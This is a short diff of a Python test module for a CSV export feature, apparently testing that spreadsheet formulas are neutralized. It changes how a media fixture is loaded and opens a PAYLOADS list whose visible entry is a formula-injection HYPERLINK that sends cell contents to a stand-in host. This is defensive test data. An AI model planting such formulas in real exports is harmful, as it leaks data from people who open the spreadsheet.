@@ -22,8 +22,10 @@ from followthrough.exchange.exporters.csv_export import (
 )
 from followthrough.exchange.formula import neutralize, unneutralize
 from followthrough.people.models import Person
-from tests.exchange.test_backup import media_root, rich_workspace  # noqa: F401
+from tests.exchange.test_backup import rich_workspace
 from tests.factories import make_person
+
+pytestmark = pytest.mark.usefixtures("media_root")  # photos and uploads: a folder per test
 
 PAYLOADS = [
     '=HYPERLINK("http://x/?"&A1,"c")',
